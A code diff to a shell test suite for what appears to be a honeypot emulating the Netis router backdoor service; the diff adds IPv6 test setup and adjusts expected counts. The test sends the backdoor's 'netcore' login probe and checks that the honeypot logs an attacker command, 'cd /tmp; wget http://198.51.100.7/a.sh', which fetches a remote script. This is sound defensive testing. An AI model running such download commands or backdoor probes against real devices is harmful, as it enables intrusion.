@@ -105,17 +105,29 @@ assert said == b"AA\0\4ABAAdone\nAA\0\5ACAA\0\0\0\0", said
 END
 }
 
+# Both ends have an address of IPv6, and know each other.
+six() {
+    ip -n "$netns_sensor" address add 2001:db8::1/64 dev sensor0 nodad 2>/dev/null &&
+        ip -n "$netns_sender" address add 2001:db8::2/64 dev sender0 nodad &&
+        ip -n "$netns_sensor" neighbour replace 2001:db8::2 lladdr 02:00:00:00:00:02 nud permanent dev sensor0 &&
+        ip -n "$netns_sender" neighbour replace 2001:db8::1 lladdr 02:00:00:00:00:01 nud permanent dev sender0
+}
+
 clients() {
-    local id with_socat=0
+    local id more=0
     begin clients "$TEITEN" --set trap.workers=1
     said clients "listening at=0.0.0.0:53413 service=netis" || fail "it does not listen"
     ip -n "$netns_sender" address add 203.0.113.20/32 dev sender0
     ip -n "$netns_sender" address add 203.0.113.120/32 dev sender0
+    if six; then
+        loader 2001:db8::2 2001:db8::1 >"$TMPDIR/loader6.out" 2>&1 || fail "the exchange over IPv6: $(<"$TMPDIR/loader6.out")"
+        more=$((more + 3))
+    fi
     loader 198.51.100.2 198.51.100.1 >"$TMPDIR/loader.out" 2>&1 || fail "the exchange: $(<"$TMPDIR/loader.out")"
     printf '\n' | netns_in SENDER nc -u -s 203.0.113.20 -w 1 198.51.100.1 53413 | cmp -s - <(printf '\n\0\0\6\0\1\0\0\0\0\320\245Login:') ||
         fail "nc is not answered"
     if command -v socat >/dev/null; then
-        with_socat=1
+        more=$((more + 1))
         printf 'AAAAAAAAnetcore\0' | netns_in SENDER socat -t 1 - UDP4:198.51.100.1:53413,bind=203.0.113.120 >"$TMPDIR/socat.out"
         # of its network 17 bytes are left: 64 and 29 and 44 came, 46 went and 58 would
         [[ ! -s $TMPDIR/socat.out || $(wc -c <"$TMPDIR/socat.out") == 30 ]] || fail "socat: $(xxd "$TMPDIR/socat.out")"
@@ -125,7 +137,7 @@ clients() {
     # A port that services have is not answered.
     printf '\n' | netns_in SENDER nc -u -p 53 -w 1 198.51.100.1 53413 >"$TMPDIR/low.out"
     [[ ! -s $TMPDIR/low.out ]] || fail "port 53 is answered"
-    until_true 20 is_counted clients $((6 + with_socat)) || fail "$("$release" status --state "$TMPDIR/clients")"
+    until_true 20 is_counted clients $((6 + more)) || fail "$("$release" status --state "$TMPDIR/clients")"
     [[ $(count clients lost) == 0 && $(count clients untold) == 0 ]] || fail "some are not told of"
     end clients
     ask clients "any(s['logged_in'] and s['commands'] == 1 and s['downloads'] == 1 and s['service'] == 'netis' and
@@ -134,7 +146,7 @@ clients() {
     ask clients "len(d) == 1 and d[0]['name'].startswith('cd /tmp; wget http://198.51.100.7/a.sh')" top commands || fail "commands"
     ask clients "d[0]['name'] == 'http://198.51.100.7/a.sh'" top downloads || fail "downloads are not told"
     ask clients "d[0]['name'] == '/netcore'" top credentials || fail "log-ins are not told"
-    ask clients "{r['name']: r['count'] for r in d}['probe'] == 3" top datagrams || fail "$("$release" top datagrams --state "$TMPDIR/clients")"
+    ask clients "{r['name']: r['count'] for r in d}['probe'] in (3, 4)" top datagrams || fail "$("$release" top datagrams --state "$TMPDIR/clients")"
     id=$("$release" sessions --json --state "$TMPDIR/clients" | python3 -c "
 import json, sys
 print(next(s['id'] for s in json.load(sys.stdin) if s['commands']))")
